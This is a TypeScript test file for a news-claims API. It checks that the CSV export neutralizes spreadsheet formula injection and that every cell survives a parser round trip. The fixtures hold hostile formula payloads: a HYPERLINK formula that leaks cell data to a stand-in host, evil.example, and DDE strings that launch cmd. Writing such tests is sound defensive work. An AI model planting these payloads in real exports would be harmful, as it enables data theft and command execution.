// Item 7 of issue 16: CSV exports are safe to open in a spreadsheet. A cell that starts with = + - @,
// a tab or a carriage return is neutralized (OWASP: a leading single quote, the cell quoted), and a
// CSV parser reads every cell back: dropping that quote gives the text as stored.
import { parse } from 'csv-parse/sync'
import t from 'tap'
import { CSV_COLUMNS, csvField } from '../../src/queries/exports.js'
import { AUTH, testApp } from '../helpers/app.js'

const HOSTILE = [
  { title: '=HYPERLINK("http://evil.example/?"&A1,"Click")', outlet: '@SUM(1+1)*cmd|" /C calc"!A0' },
  { title: '-2+3+cmd|" /C calc"!A0', outlet: '+1, "quoted", and a comma' },
  { title: '\t=1+1 after a tab', outlet: '\r=1+1 after a carriage return' },
]

t.test('every formula-like cell of /v1/claims.csv is neutralized and round-trips through a CSV parser', async (t) => {
  const { app } = await testApp(t, { seed: false })
  const ids: string[] = []
  for (const [i, meta] of HOSTILE.entries()) {
    const text = `At least ${i + 12} people were killed when a bomb exploded in a market in Quetta, Pakistan, on Monday, police said.`
    const res = await app.inject({ method: 'POST', url: '/v1/articles', headers: AUTH, payload: { text, ...meta } })
    t.equal(res.statusCode, 201, res.body)
    t.ok(res.json().claims.length > 0, 'the article has claims to export')
    ids.push(res.json().id)
  }
  const csv = await app.inject('/v1/claims.csv')
  t.equal(csv.statusCode, 200)
  const [header, ...rows] = parse(csv.body, { relax_column_count: false }) as string[][]
  t.same(header, [...CSV_COLUMNS])
  const col = (name: string) => header!.indexOf(name)
  t.equal(rows.length, (await app.inject('/v1/stats')).json().claims.total)
  let neutralized = 0
  for (const row of rows) {
    for (const cell of row) t.notOk(/^[=+\-@\t\r]/.test(cell), `no cell a spreadsheet would run: ${JSON.stringify(cell)}`)
    const meta = HOSTILE[ids.indexOf(row[col('article_id')]!)]!
    t.equal(row[col('article_title')], `'${meta.title}`, 'the title behind a single quote')
    t.equal(row[col('outlet')], `'${meta.outlet}`, 'the outlet behind a single quote')
    t.equal(row[col('article_title')]!.slice(1), meta.title, 'dropping the quote gives the title back')
    t.equal(row[col('outlet')]!.slice(1), meta.outlet, 'and the outlet')
    t.match(row[col('value')], /^\d+$/, 'numbers stay numbers')
    neutralized += 2
  }
  t.ok(neutralized >= 6, `${neutralized} cells neutralized`)
})

t.test('csvField', async (t) => {
  t.equal(csvField('=1+1'), `"'=1+1"`)
  t.equal(csvField('@x'), `"'@x"`)
  t.equal(csvField('-x'), `"'-x"`)
  t.equal(csvField('+x'), `"'+x"`)
  t.equal(csvField('\tx'), `"'\tx"`)
  t.equal(csvField('\rx'), `"'\rx"`)
  t.equal(csvField('="a"'), `"'=""a"""`, 'quotes inside are doubled')
  t.equal(csvField('a=b, c'), '"a=b, c"', 'only the first character matters')
  t.equal(csvField(-3), '-3', 'a negative number is no formula')
  t.equal(csvField(null), '')
  t.equal(csvField('plain'), 'plain')
})
